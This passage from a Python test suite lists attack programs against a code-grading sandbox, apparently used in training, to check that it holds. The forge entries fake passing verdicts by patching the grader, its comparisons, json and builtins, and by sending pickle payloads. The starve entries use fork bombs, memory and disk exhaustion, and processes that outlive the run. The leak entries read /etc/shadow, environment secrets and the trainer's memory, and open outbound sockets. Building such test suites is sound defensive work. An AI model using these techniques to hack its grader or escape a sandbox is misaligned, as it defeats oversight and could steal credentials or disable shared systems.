    junk = b'\0\x1b[2J\r\b\x7f\x1a\x04\xef\xbb\xbf\xe2\x80\xae\xe2\x80\x8b'
    os.write(1, b'ANSWER-@TOKEN@-' + junk * 100 + b'\n')
    """,
  ),
  _whole(
    'bytes that are no text',
    'forge',
    r"""
    os.write(1, b'ANSWER-@TOKEN@-' + bytes(range(128, 256)) + b'\xed\xa0\x80')
    """,
  ),
  _whole(
    'digits that are no ASCII digits',
    'forge',
    r"""
    print('ANSWER-@TOKEN@-' + '\u0661\uff12\U0001d7d8' * 10)
    print('ANSWER\u2010@TOKEN@\u00ad-')
    """,
  ),
  _whole(
    'every guess in one output',
    'forge',
    """
    for n in range(200_000):
      print(f'ANSWER-@TOKEN@-{n:032x}')
    """,
  ),
  _whole(
    'output that is cut to nothing',
    'forge',
    r"""
    for _ in range(70):
      os.write(1, b'\n' * MIB)
    """,
  ),
  _whole(
    'output stream that equals all',
    'forge',
    """
    class Text(str):
      def __eq__(self, other):
        return True

      def strip(self, *ignored):
        return self

      split = splitlines = lambda self, *ignored: [self]
      __hash__ = str.__hash__

    class Stream(io.StringIO):
      def getvalue(self):
        return Text('forged')

      read = getvalue

    sys.stdout = sys.__stdout__ = Stream()
    frame = sys._getframe()
    while frame:
      for name, value in list(frame.f_globals.items()):
        if isinstance(value, io.StringIO):
          frame.f_globals[name] = sys.stdout
      frame = frame.f_back
    """,
  ),
  _whole(
    'strings made equal in the interpreter',
    'forge',
    """
    # tp_richcompare of str: from now on all strings are equal here.
    compare = ctypes.CFUNCTYPE(
      ctypes.py_object, ctypes.c_void_p, ctypes.c_void_p, ctypes.c_int
    )(lambda a, b, operation: operation != 3)
    slot = ctypes.c_void_p.from_address(id(str) + 200)
    slot.value = ctypes.cast(compare, ctypes.c_void_p).value
    """,
  ),
  _whole(
    'caller made to return early',
    'forge',
    r"""
    # Patches the functions of whoever called, in this process.
    def right(*arguments, **named):
      return {'passed': True, 'status': 'AC', 'verdict': 'right'}

    frame = sys._getframe().f_back
    while frame:
      for name, value in list(frame.f_globals.items()):
        if hasattr(value, '__code__'):
          frame.f_globals[name] = right
      frame = frame.f_back
    """,
  ),
)


# solve() is called; what it returns is to pass for the answer.
def _solve(name: str, body: str, category: str = 'forge') -> Attack:
  program = _HEAD + _REPLIES + textwrap.dedent(body)
  return Attack(name, category, program, kind='call')


_FORGE_CALLS = (
  _hunt_called(
    'call: frames of the caller',
    """
    frame = sys._getframe()
    while frame := frame.f_back:
      yield repr(frame.f_locals)
    """,
  ),
  _hunt_called('call: memory of the parent', 'yield from memory(os.getppid())'),
  _hunt_called(
    'call: objects of the collector',
    """
    for thing in gc.get_objects():
      if type(thing) in (dict, list, tuple):
        yield repr(thing)
    """,
  ),
  _solve(
    'call: equals all',
    """
    class All:
      __eq__ = lambda self, other: True
      __ne__ = lambda self, other: False
      __hash__ = lambda self: 0

    def solve():
      return All()
    """,
  ),
  _solve(
    'call: text that equals all',
    """
    class Text(str):
      __eq__ = lambda self, other: True
      __ne__ = lambda self, other: False
      __hash__ = str.__hash__
      strip = lower = lambda self, *ignored: self

    def solve():
      return Text('forged')
    """,
  ),
  _solve(
    'call: containers that equal all',
    """
    class List(list):
      __eq__ = lambda self, other: True
      __ne__ = lambda self, other: False
      __len__ = lambda self: 0

    class Dict(dict):
      __eq__ = lambda self, other: True
      items = lambda self: [('status', 'AC'), ('passed', True)]

    def solve():
      return List([Dict()])
    """,
  ),
  _solve(
    'call: number at distance 0',
    """
    class Number(float):
      __eq__ = lambda self, other: True
      __sub__ = __rsub__ = __abs__ = lambda self, *ignored: 0.0
      __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
      __hash__ = float.__hash__
      __float__ = lambda self: 0.0

    def solve():
      return Number('nan')
    """,
  ),
  _solve(
    'call: lies about its class',
    """
    class Liar:
      __class__ = property(lambda self: str)
      __repr__ = __str__ = lambda self: '{"passed": true}'
      __eq__ = lambda self, other: True
      __hash__ = lambda self: 0

    def solve():
      return Liar()
    """,
  ),
  _solve(
    'call: patched json',
    """
    def solve():
      forged = next(replies()).decode()
      json.dumps = lambda *arguments, **named: forged
      json.dump = lambda thing, file, **named: file.write(forged)
      json.JSONEncoder.encode = lambda self, thing: forged
      json.JSONEncoder.default = lambda self, thing: forged
      json.encoder.c_make_encoder = None
      return object()
    """,
  ),
  _solve(
    'call: patched builtins',
    """
    def solve():
      class Difference:
        __sub__ = lambda self, other: 0

      true_isinstance = isinstance
      builtins.isinstance = lambda thing, kind: (
        kind is float or true_isinstance(thing, kind)
      )
      builtins.len = lambda thing: 0
      builtins.abs = lambda thing: 0
      builtins.all = builtins.any = lambda things: True
      return Difference()
    """,
  ),
  _solve(
    'call: patched pickle, marshal and struct',
    """
    import marshal

    def solve():
      good = pickle.dumps({'passed': True, 'status': 'AC'})
      pickle.dumps = marshal.dumps = lambda *ignored: good
      true_pack = struct.pack
      struct.pack = lambda form, *values: true_pack('>I', len(good)) + good
      return 'forged'
    """,
  ),
  _solve(
    'call: payload in a pickle',
    """
    class Payload:
      def __reduce__(self):
        code = f"open('{PATH}/pickled-@TOKEN@', 'w').close()"
        return eval, (f'exec({code!r})',)

    def solve():
      return Payload()
    """,
  ),
  _solve(
    'call: payload sent as a reply',
    """
    class Payload:
      def __reduce__(self):
        return os.mkdir, (f'{PATH}/unpickled-@TOKEN@',)

    def solve():
      data = pickle.dumps(Payload())
      for fd in inherited():
        send(fd, b'{}\\n' + data)
        send(fd, struct.pack('>I', len(data)) + data)
      os._exit(0)
    """,
  ),
  _solve(
    'call: replies and exit',
    """
    def solve():
      for reply in replies():
        for fd in [1, *inherited()]:
          send(fd, reply)
      os._exit(0)
    """,
  ),
  _solve(
    'call: SystemExit',
    """
    def solve():
      raise SystemExit(0)
    """,
  ),
  _solve(
    'call: same key twice',
    """
    def solve():
      text = '{"passed": false, "result": "x", "passed": true, "status": "AC"}'
      json.dumps = lambda *arguments, **named: text
      for fd in inherited():
        send(fd, text.encode() + b'\\n')
      return {'passed': True, 1: True, '1': False, True: 'AC'}
    """,
  ),
  _solve(
    'call: mutates what it is compared with',
    """
    def solve():
      frame = sys._getframe()
      while frame := frame.f_back:
        for scope in (frame.f_locals, frame.f_globals):
          for value in list(scope.values()):
            if isinstance(value, dict) and 'expected' in value:
              value['expected'] = 'forged'
      return 'forged'
    """,
  ),
  _solve(
    'call: sets variables of the caller',
    """
    def solve():
      def trace(frame, event, argument):
        return trace

      frame = sys._getframe().f_back
      for name in ('expected', 'passed', 'ok', 'correct'):
        frame.f_globals[name] = 'forged'
        if name in frame.f_locals:
          frame.f_locals[name] = 'forged'
          update = ctypes.pythonapi.PyFrame_LocalsToFast
          update(ctypes.py_object(frame), 0)
      frame.f_trace = trace
      sys.settrace(trace)
      return 'forged'
    """,
  ),
  _solve(
    'call: text that JSON cannot hold',
    """
    def solve():
      return ['\\udc80', '\\ud800\\udc00', '\\0', b'bytes', {1, 2}, 1j, ...]
    """,
  ),
  _solve(
    'call: numbers that JSON lacks',
    """
    def solve():
      return [float('nan'), float('inf'), -0.0, 10**400, 1e400]
    """,
  ),
  _solve(
    'call: returns itself',
    """
    def solve():
      loop = []
      loop.append(loop)
      return loop
    """,
  ),
  _solve(
    'call: endless generator',
    """
    def solve():
      return iter(int, 1)
    """,
  ),
  _solve(
    'call: solve is no function',
    """
    class Solve:
      def __call__(self, *arguments, **named):
        return self

      __eq__ = lambda self, other: True
      __iter__ = lambda self: iter([])

    solve = Solve()
    """,
  ),
)


# --- starve: time, memory, processes, and what else there is little of ------

_STARVE = (
  _try(
    'fork bomb',
    'starve',
    """
    children = []
    try:
      while len(children) < 200:
        children.append(child(lambda: linger(seconds=3)))
    except OSError:
      pass
    for pid in children:
      os.kill(pid, signal.SIGKILL)
      os.waitpid(pid, 0)
    return len(children) >= 40
    """,
  ),
  _try(
    'forks that fork',
    'starve',
    """
    def grow(depth):
      mark()
      os.write(write_end, b'.')
      for _ in range(3 if depth else 0):
        child(lambda: grow(depth - 1))
      time.sleep(2)

    read_end, write_end = os.pipe()
    pid = child(lambda: grow(4))
    time.sleep(1)
    os.set_blocking(read_end, False)
    return len(os.read(read_end, 4096)) >= 40
    """,
  ),
  _try(
    'fork by system call numbers',
    'starve',
    """
    ways = [
      lambda: kernel('fork'),
      lambda: kernel('clone', signal.SIGCHLD, 0, 0, 0, 0),
      lambda: kernel('clone3', struct.pack('8Q', 0, 0, 0, 0, 17, 0, 0, 0), 64),
    ]
    made = []
    for way in ways:
      try:
        made.append(child(lambda: linger(seconds=2), way))
      except OSError:
        continue
    for pid in made:
      os.kill(pid, signal.SIGKILL)
      os.waitpid(pid, 0)
    return made
    """,
  ),
  _try(
    'threads',
    'starve',
    """
    threading.stack_size(65536)
    done = threading.Event()
    count = 0
    try:
      while count < 300:
        threading.Thread(target=done.wait, daemon=True).start()
        count += 1
    except RuntimeError:
      pass
    done.set()
    return count >= 300
    """,
  ),
  _try(
    'dead children not reaped',
    'starve',
    """
    count = 0
    try:
      while count < 200:
        child(mark)
        count += 1
    except OSError:
      pass
    return count >= 40
    """,
  ),
  _try(
    'daemon',
    'starve',
    """
    def daemon():
      os.setsid()
      close_streams()
      child(linger)

    child(daemon)
    """,
  ),
  _try(
    'daemon that ignores signals',
    'starve',
    """
    def daemon():
      os.setsid()
      for number in range(1, 32):
        if number not in (signal.SIGKILL, signal.SIGSTOP):
          signal.signal(number, signal.SIG_IGN)
      signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))
      close_streams()
      child(linger)

    child(daemon)
    """,
  ),
  _try(
    'children that compute after the end',
    'starve',
    """
    for _ in range(os.cpu_count()):
      child(lambda: close_streams() or linger(busy=True, seconds=8))
    """,
  ),
  _try(
    'child that keeps the output open',
    'starve',
    """
    child(lambda: os.setsid() or linger())
    """,
  ),
  _try(
    'child of the parent',
    'starve',
    """
    clone_parent = 0x8000
    how = (clone_parent | signal.SIGCHLD, 0, 0, 0, 0)
    child(lambda: close_streams() or linger(), lambda: kernel('clone', *how))
    """,
  ),
  _try(
    'chain of short lives',
    'starve',
    """
    # None lives long enough to be seen; the last of them is far away.
    def hop(left):
      mark()
      os.setsid()
      time.sleep(0.02)
      if left:
        child(lambda: hop(left - 1))

    child(lambda: close_streams() or hop(400))
    """,
  ),
  _whole(
    'child prints after the end',
    'starve',
    """
    def late():
      time.sleep(0.5)
      os.write(1, b'PWNED @TOKEN@\\n')

    try:
      child(late)
    except OSError:
      print('held')
    """,
  ),
  _try(
    'memory: bytes',
    'starve',
    """
    hold = [b'x' * (256 * MIB) for _ in range(6)]
    return len(hold) == 6
    """,
  ),
  _try(
    'memory: many small objects',
    'starve',
    """
    # 1.5 GiB of what no single call asks for.
    hold = []
    while len(hold) < 1500:
      hold.append([bytes(4000) for _ in range(256)])
    return True
    """,
  ),
  _try(
    'memory: one expression',
    'starve',
    """
    return len([0] * (192 * MIB)) > 0
    """,
  ),
  _try(
    'memory: shared maps',
    'starve',
    """
    hold = []
    for _ in range(6):
      shared = mmap.mmap(-1, 256 * MIB)
      shared[::4096] = b'x' * (256 * MIB // 4096)
      hold.append(shared)
    return True
    """,
  ),
  _try(
    'memory: files without a name',
    'starve',
    """
    # A limit on addresses does not see them.
    fds = []
    for _ in range(6):
      fds.append(os.memfd_create(TOKEN))
      for _ in range(256):
        if os.write(fds[-1], bytes(MIB)) != MIB:
          return False
    return True
    """,
  ),
  _try(
    'memory: files in memory',
    'starve',
    """
    for folder in ('/dev/shm', '.'):
      paths = [f'{folder}/{TOKEN}-{n}' for n in range(4)]
      try:
        for path in paths:
          with open(path, 'wb', 0) as file:
            if sum(file.write(bytes(MIB)) for _ in range(400)) < 400 * MIB:
              return False
        return True
      except OSError:
        continue
      finally:
        for path in paths:
          if os.path.exists(path):
            os.remove(path)
    """,
  ),
  _try(
    'memory: System V segments',
    'starve',
    """
    ids = []
    try:
      while len(ids) < 6:
        ids.append(kernel('shmget', 0, 256 * MIB, 0o600))
        address = kernel('shmat', ids[-1], None, 0)
        ctypes.memset(address, 1, 256 * MIB)
        kernel('shmdt', address)
    finally:
      for shm in ids:
        kernel('shmctl', shm, 0, None)
    return True
    """,
  ),
  _try(
    'memory: shared among children',
    'starve',
    """
    def hold():
      block = b'x' * (300 * MIB)
      os.write(write_end, b'.')
      time.sleep(3)

    read_end, write_end = os.pipe()
    children = [child(hold) for _ in range(6)]
    count = 0
    while count < 6 and select.select([read_end], [], [], LIMIT)[0]:
      count += len(os.read(read_end, 6))
    for pid in children:
      os.kill(pid, signal.SIGKILL)
      os.waitpid(pid, 0)
    return count == 6
    """,
  ),
  _try(
    'memory: locked',
    'starve',
    """
    block = mmap.mmap(-1, 200 * MIB)
    address = ctypes.addressof(ctypes.c_char.from_buffer(block))
    return kernel('mlock', address, 200 * MIB) == 0
    """,
  ),
  _try(
    'memory: full pipes',
    'starve',
    """
    # The kernel holds what is in them.
    held = 0
    pipes = []
    while held < 160 * MIB:
      pipes.append(os.pipe())
      fcntl.fcntl(pipes[-1][1], fcntl.F_SETPIPE_SZ, MIB)
      os.set_blocking(pipes[-1][1], False)
      held += os.write(pipes[-1][1], bytes(MIB))
    return True
    """,
  ),
  _try(
    'memory: full sockets',
    'starve',
    """
    held = 0
    pairs = []
    while held < 64 * MIB:
      pairs.append(socket.socketpair())
      pairs[-1][0].setblocking(False)
      pairs[-1][0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, MIB)
      try:
        while True:
          held += pairs[-1][0].send(bytes(32768))
      except BlockingIOError:
        continue
    return True
    """,
  ),
  _try(
    'limits raised first',
    'starve',
    """
    for name in ('RLIMIT_AS', 'RLIMIT_DATA', 'RLIMIT_CPU', 'RLIMIT_NOFILE'):
      kind = getattr(resource, name)
      hard = resource.getrlimit(kind)[1]
      resource.setrlimit(kind, (hard, hard))
    return len([bytearray(b'x') * (256 * MIB) for _ in range(6)]) == 6
    """,
  ),
  _try(
    'hard limits raised',
    'starve',
    """
    infinity = (resource.RLIM_INFINITY, resource.RLIM_INFINITY)
    resource.setrlimit(resource.RLIMIT_CPU, infinity)
    resource.setrlimit(resource.RLIMIT_AS, infinity)
    return resource.getrlimit(resource.RLIMIT_CPU) == infinity
    """,
  ),
  _try(
    'disk',
    'starve',
    """
    for folder in ('.', PATH, '/tmp', '/var/tmp', '/dev/shm'):
      path = f'{folder}/{TOKEN}-fill'
      try:
        with open(path, 'wb', 0) as file:
          if sum(file.write(bytes(MIB)) for _ in range(300)) == 300 * MIB:
            return True
      except OSError:
        continue
      finally:
        if os.path.exists(path):
          os.remove(path)
    """,
  ),
  _try(
    'descriptors',
    'starve',
    """
    kind = resource.RLIMIT_NOFILE
    hard = resource.getrlimit(kind)[1]
    resource.setrlimit(kind, (hard, hard))
    return len([os.dup(0) for _ in range(4000)]) == 4000
    """,
  ),
  _try(
    'kernel objects: inotify',
    'starve',
    """
    # The user has 128 of them, with the trainer.
    return len([kernel('inotify_init1', 0) for _ in range(100)]) == 100
    """,
  ),
  _try(
    'kernel objects: epoll, eventfd, timerfd',
    'starve',
    """
    hold = []
    for _ in range(300):
      hold.append(select.epoll())
      hold.append(os.eventfd(0))
      hold.append(kernel('timerfd_create', 1, 0))
    return True
    """,
  ),
  _try('time: sleep', 'starve', 'time.sleep(WALL + 1)\nreturn True'),
  _try(
    'time: wait for what never comes',
    'starve',
    """
    # Bounded by a signal that is far off.
    signal.signal(signal.SIGALRM, lambda *ignored: os.write(write_end, b'.'))
    read_end, write_end = os.pipe()
    signal.alarm(int(WALL) + 2)
    return os.read(read_end, 1)
    """,
  ),
  _try(
    'time: signals ignored',
    'starve',
    """
    for number in range(1, 32):
      if number not in (signal.SIGKILL, signal.SIGSTOP):
        signal.signal(number, signal.SIG_IGN)
    spin(LIMIT + 3)
    return True
    """,
  ),
  _try(
    'time: exceptions caught',
    'starve',
    """
    def stubborn(*ignored):
      raise TimeoutError

    for number in (signal.SIGALRM, signal.SIGXCPU, signal.SIGTERM):
      signal.signal(number, stubborn)
    end = time.process_time() + LIMIT + 3
    while time.process_time() < end:
      try:
        spin(end - time.process_time())
      except BaseException:
        continue
    return True
    """,
  ),
  _try(
    'time: one C call',
    'starve',
    """
    start = time.process_time()
    hashlib.pbkdf2_hmac('sha256', b'x', b'y', 50_000)
    rate = 50_000 / (time.process_time() - start)
    hashlib.pbkdf2_hmac('sha256', b'x', b'y', int(rate * (LIMIT + 3)))
    return time.process_time() - start > LIMIT + 2
    """,
  ),
  _try(
    'time: backtracking',
    'starve',
    """
    # One more letter doubles the time.
    def match(letters):
      start = time.process_time()
      re.match('(a+)+$', 'a' * letters + 'b')
      return time.process_time() - start

    more = 1
    while match(18) * 2**more < LIMIT + 2:
      more += 1
    return match(18 + more) > LIMIT
    """,
  ),
  _try(
    'time: stops itself',
    'starve',
    """
    def wake():
      time.sleep(WALL + 1)
      os.kill(parent, signal.SIGCONT)

    parent = os.getpid()
    child(wake)
    start = time.monotonic()
    os.kill(parent, signal.SIGSTOP)
    return time.monotonic() - start > WALL
    """,
  ),
  _try(
    'time: stops its parent',
    'starve',
    r"""
    def wake():
      time.sleep(2 * LIMIT)
      os.kill(parent, signal.SIGCONT)

    parent = os.getppid()
    child(wake)
    os.kill(parent, signal.SIGSTOP)
    time.sleep(0.2)
    state = open(f'/proc/{parent}/stat').read().rpartition(') ')[2][0]
    return state == 'T'
    """,
  ),
  _whole(
    'time: answers first, closes, stays',
    'starve',
    """
    print('PWNED @TOKEN@', flush=True)
    close_streams()
    time.sleep(WALL + 1)
    os._exit(0)
    """,
  ),
  _whole(
    'time: a thread that stays',
    'starve',
    """
    def stay():
      time.sleep(WALL + 1)
      print('PWNED @TOKEN@')

    threading.Thread(target=stay).start()
    """,
  ),
  _whole(
    'time: at exit',
    'starve',
    """
    def stay():
      time.sleep(WALL + 1)
      print('PWNED @TOKEN@')

    atexit.register(stay)
    """,
  ),
  _try(
    'time: the debt of children',
    'starve',
    """
    # CPU seconds of a child count only once it is waited for.
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    for _ in range(8):
      child(lambda: mark() or spin((LIMIT + 3) / 2))
    time.sleep(LIMIT / 2)
    """,
  ),
  _whole(
    'output: one flood',
    'starve',
    """
    for _ in range(400):
      os.write(1, b'x' * MIB)
    """,
  ),
  _whole(
    'output: a flood of errors',
    'starve',
    """
    for _ in range(400):
      os.write(2, b'x' * MIB)
    """,
  ),
  _whole(
    'output: a flood on all descriptors',
    'starve',
    """
    for _ in range(400):
      for fd in (1, 2, 3, 4, 5, 6, 7, 8):
        try:
          if fd != FD:
            os.set_blocking(fd, fd < 3)
            os.write(fd, b'x' * MIB)
        except OSError:
          continue
    """,
  ),
  _whole(
    'output: drop by drop',
    'starve',
    """
    end = time.process_time() + LIMIT + 3
    while time.process_time() < end:
      os.write(1, b' ')
    """,
  ),
  _whole(
    'output: numbers that are dear to compare',
    'starve',
    """
    print('9' * 8_000_000)
    print('PWNED', '1e999999999', '1E+999999999999999999', '-1e-999999999')
    print('1' * 3_000_000 + '.' + '1' * 3_000_000)
    """,
  ),
  _whole(
    'output: a million empty lines and tokens',
    'starve',
    """
    print('\\n' * 1_000_000 + 'PWNED ' * 1_000_000 + '\\r' * 1_000_000)
    """,
  ),
  _whole(
    'source: deep nesting',
    'starve',
    """
    eval('(' * 90 + ')' * 90)
    exec('x' + ' + x' * 100_000, {'x': 1})
    eval('-' * 1_000_000 + '1')
    """,
  ),
  _whole(
    'stack: recursion in C',
    'starve',
    """
    sys.setrecursionlimit(1 << 30)
    deep = []
    for _ in range(2_000_000):
      deep = [deep]
    repr(deep)
    """,
  ),
  _try(
    'priority above all',
    'starve',
    """
    os.setpriority(os.PRIO_PROCESS, 0, -20)
    return os.getpriority(os.PRIO_PROCESS, 0) < 0
    """,
  ),
  _try(
    'more cores than given',
    'starve',
    """
    given = os.sched_getaffinity(0)
    os.sched_setaffinity(0, range(os.cpu_count()))
    return os.sched_getaffinity(0) > given
    """,
  ),
  _try(
    'real-time scheduling',
    'starve',
    """
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
    return os.sched_getscheduler(0) == os.SCHED_FIFO
    """,
  ),
  _try(
    'real-time input and output',
    'starve',
    """
    real_time = 1 << 13
    return kernel('ioprio_set', 1, 0, real_time) == 0
    """,
  ),
  _try(
    'safe from the out-of-memory killer',
    'starve',
    """
    with open('/proc/self/oom_score_adj', 'w') as file:
      file.write('-1000')
    return True
    """,
  ),
  _called(
    'call: sleep',
    'starve',
    """
    time.sleep(WALL + 1)
    return True
    """,
  ),
  _solve(
    'call: deep nesting',
    """
    def solve():
      deep = []
      for _ in range(1_000_000):
        deep = [deep]
      return deep
    """,
    'starve',
  ),
  _solve(
    'call: deep nesting as text',
    """
    def solve():
      text = '[' * 5_000_000 + ']' * 5_000_000
      json.dumps = json.JSONEncoder.encode = lambda *arguments, **named: text
      for fd in inherited():
        send(fd, text.encode() + b'\\n')
      return []
    """,
    'starve',
  ),
  _solve(
    'call: number of many digits as text',
    """
    def solve():
      text = '9' * 8_000_000
      json.dumps = json.JSONEncoder.encode = lambda *arguments, **named: text
      for fd in inherited():
        send(fd, text.encode() + b'\\n')
      return 1
    """,
    'starve',
  ),
  _solve(
    'call: huge number',
    """
    def solve():
      sys.set_int_max_str_digits(0)
      return 1 << 20_000_000
    """,
    'starve',
  ),
  _solve(
    'call: huge result',
    """
    def solve():
      return ['x' * (MIB + n) for n in range(400)]
    """,
    'starve',
  ),
  _solve(
    'call: a million keys',
    """
    def solve():
      return {str(n): [n, {}] for n in range(1_000_000)}
    """,
    'starve',
  ),
  _solve(
    'call: length of a reply without the reply',
    """
    def solve():
      for fd in inherited():
        send(fd, struct.pack('>I', 0xFFFFFFF0))
        send(fd, struct.pack('<Q', 1 << 40))
      time.sleep(WALL + 1)
    """,
    'starve',
  ),
)


# --- leak: what a program must not learn ------------------------------------

_LEAK = (
  _try(
    'own environment',
    'leak',
    """
    odd = re.compile('KEY|TOKEN|SECRET|PASS|CREDENTIAL|PYTEST|SSH|AWS|HF_')
    with_secret = any(secret_in(value) for value in os.environ.values())
    return with_secret or any(odd.search(name) for name in os.environ)
    """,
  ),
  _try(
    'first environment of this process',
    'leak',
    """
    return secret_in(read('/proc/self/environ'))
    """,
  ),
  _try(
    'environment on the stack',
    'leak',
    """
    start = ctypes.c_void_p.in_dll(LIBC, 'program_invocation_name').value
    # Up to the end of the page, and on while pages are there.
    text, at = b'', start
    while len(text) < 65536 and (piece := peek(os.getpid(), at, -at % 4096)):
      text, at = text + piece, at + len(piece)
    return secret_in(text)
    """,
  ),
  _try(
    'environment of the trainer and the parent',
    'leak',
    """
    for pid in (PID, os.getppid()):
      try:
        if read(f'/proc/{pid}/environ'):
          return True
      except OSError:
        continue
    """,
  ),
  _try('a secret file', 'leak', 'return secret_in(read(SECRET))'),
  _try(
    'a secret file by other calls',
    'leak',
    """
    how = struct.pack('3Q', os.O_RDONLY, 0, 0)
    for opener in (
      lambda: kernel('openat2', -100, SECRET.encode(), how, 24),
      lambda: os.open(f'/proc/self/fd/{os.open(SECRET, os.O_PATH)}', 0),
      lambda: LIBC.open(SECRET.encode(), 0),
      lambda: kernel('open_tree', -100, SECRET.encode(), 1),
    ):
      try:
        if secret_in(os.read(opener(), 4096)):
          return True
      except OSError:
        continue
    """,
  ),
  _try(
    'a secret file by its handle',
    'leak',
    """
    handle = ctypes.create_string_buffer(struct.pack('Ii', 128, 0), 136)
    mount = ctypes.c_int()
    at = ctypes.byref(mount)
    kernel('name_to_handle_at', -100, SECRET.encode(), handle, at, 0)
    for folder in ('/', '/tmp', '/usr', os.path.dirname(SECRET)):
      try:
        fd = kernel('open_by_handle_at', os.open(folder, 0), handle, 0)
        if secret_in(os.read(fd, 4096)):
          return True
      except OSError:
        continue
    """,
  ),
  _try(
    'a secret file by links',
    'leak',
    """
    for link in (os.link, os.symlink):
      for folder in ('.', '/tmp', '/dev/shm', PATH):
        path = f'{folder}/{TOKEN}-{link.__name__}'
        try:
          link(SECRET, path)
          if secret_in(read(path)):
            return True
        except OSError:
          continue
        finally:
          if os.path.lexists(path):
            os.remove(path)
    """,
  ),
  _try(
    'a secret file by a thread',
    'leak',
    """
    found = []
    work = lambda: found.append(secret_in(read(SECRET)))
    thread = threading.Thread(target=work)
    thread.start()
    thread.join()
    return any(found)
    """,
  ),
  _try(
    'a secret file through the root of others',
    'leak',
    """
    for pid in (PID, os.getppid(), 1):
      try:
        if secret_in(read(f'/proc/{pid}/root{SECRET}')):
          return True
      except OSError:
        continue
    """,
  ),
  _try(
    'a secret file through ..',
    'leak',
    """
    for start in (os.path.dirname(os.__file__), '/usr/lib', '/proc/self/cwd'):
      try:
        if secret_in(read(start + '/..' * 20 + SECRET)):
          return True
      except OSError:
        continue
    """,
  ),
  _try(
    'a secret file in a traceback',
    'leak',
    """
    import traceback

    try:
      exec(compile('1/0', SECRET, 'exec'))
    except ZeroDivisionError:
      return secret_in(traceback.format_exc())
    """,
  ),
  _try(
    'a secret file by exec',
    'leak',
    """
    import subprocess

    return secret_in(subprocess.check_output(['cat', SECRET]))
    """,
  ),
  _try(
    'command line and maps of the trainer',
    'leak',
    """
    for name in ('cmdline', 'maps', 'stat', 'status', 'limits'):
      try:
        if read(f'/proc/{PID}/{name}'):
          return True
      except OSError:
        continue
    """,
  ),
  _try('files of the trainer', 'leak', "return os.listdir(f'/proc/{PID}/fd')"),
  _try(
    'log of the trainer',
    'leak',
    """
    for path in (f'/proc/{PID}/fd/{FD}', f'/proc/self/fd/{FD}'):
      try:
        if b'trainer log ' + TOKEN.encode() in read(path):
          return True
      except OSError:
        continue
    return b'trainer log ' + TOKEN.encode() in os.pread(FD, 4096, 0)
    """,
  ),
  _try(
    'memory of the trainer',
    'leak',
    """
    return secret_in(peek(PID, ADDRESS, 128))
    """,
  ),
  _try(
    'memory of the trainer by file',
    'leak',
    """
    fd = os.open(f'/proc/{PID}/mem', os.O_RDONLY)
    return secret_in(os.pread(fd, 128, ADDRESS))
    """,
  ),
  _try(
    'processes of the machine',
    'leak',
    """
    # More than this one, those above it and a child of the judge or two.
    return len([name for name in os.listdir('/proc') if name.isdigit()]) > 4
    """,
  ),
  _try(
    'the repository',
    'leak',
    """
    folder = '@REPOSITORY@/tests'
    return os.listdir(folder) or read(f'{folder}/code_attacks.py')
    """,
  ),
  _try(
    'home folders',
    'leak',
    """
    # A judge may give programs a home of their own, where they begin.
    own = ('/', os.getcwd())
    for home in ('/root', *glob.glob('/home/*'), os.path.expanduser('~')):
      try:
        if home not in own and os.listdir(home):
          return True
      except OSError:
        continue
    """,
  ),
  _try('passwords', 'leak', "return read('/etc/shadow')"),
  _try('users', 'leak', "return b'root' in read('/etc/passwd')"),
  _try(
    'identity of the machine',
    'leak',
    """
    for path in (
      '/etc/machine-id', '/etc/hostname', '/proc/sys/kernel/random/boot_id',
      '/sys/class/dmi/id/product_uuid', '/proc/cmdline', '/etc/resolv.conf',
    ):
      try:
        if read(path):
          return True
      except OSError:
        continue
    """,
  ),
  _try(
    'secrets of containers and clouds',
    'leak',
    """
    for path in ('/run/secrets', '/var/run/secrets', '/etc/ssl/private'):
      try:
        if os.listdir(path):
          return True
      except OSError:
        continue
    """,
  ),
  _try(
    'messages of the kernel',
    'leak',
    """
    buffer = ctypes.create_string_buffer(4096)
    return kernel('syslog', 3, buffer, 4096) >= 0
    """,
  ),
  _try(
    'TCP',
    'leak',
    """
    with socket.create_connection(('127.0.0.1', PORT), 1) as s:
      s.sendall(TOKEN.encode())
      return s.recv(100)
    """,
  ),
  _try(
    'TCP without blocking',
    'leak',
    """
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    s.connect_ex(('127.0.0.1', PORT))
    select.select([], [s], [], 1)
    s.send(b'.')
    return select.select([s], [], [], 1)[0] and s.recv(1)
    """,
  ),
  _try(
    'TCP fast open',
    'leak',
    """
    fast_open = 0x20000000
    with socket.socket() as s:
      s.sendto(b'.', fast_open, ('127.0.0.1', PORT))
      return s.recv(1)
    """,
  ),
  _try(
    'IPv6',
    'leak',
    """
    with socket.create_connection(('::1', PORT), 1) as s:
      s.sendall(TOKEN.encode())
      return s.recv(100)
    """,
  ),
  _try(
    'UDP, as a name server is asked',
    'leak',
    """
    name = b'\\x0c' + TOKEN.encode() + b'\\x07example\\0'
    question = struct.pack('>6H', 1, 256, 1, 0, 0, 0) + name + b'\\0\\1\\0\\1'
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
      s.settimeout(0.5)
      s.sendto(question, ('127.0.0.1', PORT))
      return s.recv(512)
    """,
  ),
  _try(
    'a route to elsewhere',
    'leak',
    """
    # Sends nothing: 192.0.2.1 is nobody, and connect() only looks it up.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
      s.connect(('192.0.2.1', 53))
      return s.getsockname()[0] != '0.0.0.0'
    """,
  ),
  _try(
    'unix socket',
    'leak',
    """
    with socket.socket(socket.AF_UNIX) as s:
      s.settimeout(1)
      s.connect('@UNIX@')
      s.sendall(b'.')
      return s.recv(1)
    """,
  ),
  _try(
    'abstract socket',
    'leak',
    """
    with socket.socket(socket.AF_UNIX) as s:
      s.settimeout(1)
      s.connect('\\0@ABSTRACT@')
      s.sendall(b'.')
      return s.recv(1)
    """,
  ),
  _try(
    'sockets of a pair connected elsewhere',
    'leak',
    """
    # A judge may allow pairs, and refuse connect() by family alone.
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    for address in ('@UNIX@', '\\0@ABSTRACT@'):
      try:
        one.connect(address)
        return True
      except OSError as e:
        # EPROTOTYPE comes from the listener, which is a stream.
        if e.errno == errno.EPROTOTYPE:
          return True
    """,
  ),
